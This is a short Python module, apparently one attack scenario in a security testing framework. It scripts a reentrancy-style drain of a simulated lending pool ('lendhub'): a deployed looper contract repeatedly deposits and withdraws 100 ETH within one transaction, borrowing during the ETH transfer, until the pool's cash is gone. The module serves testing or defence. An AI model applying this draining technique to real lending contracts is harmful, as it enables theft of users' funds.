"""Deploy the looper, then in one transaction loop deposit -> withdraw (borrowing from inside the
ETH transfer) with 100 ETH until the pool's cash is gone."""

from __future__ import annotations

from bulwark.domain import TxHash
from bulwark.scenarios.lendhub.attacks import AttackContext

STAKE_WEI = 100 * 10**18
MAX_ROUNDS = 20


async def attack(ctx: AttackContext) -> list[TxHash]:
    looper, deployed = await ctx.deploy_attacker()
    drained = await ctx.send(looper, "run", ctx.lendhub.address("pool"), MAX_ROUNDS, value=STAKE_WEI)
    return [deployed, drained]
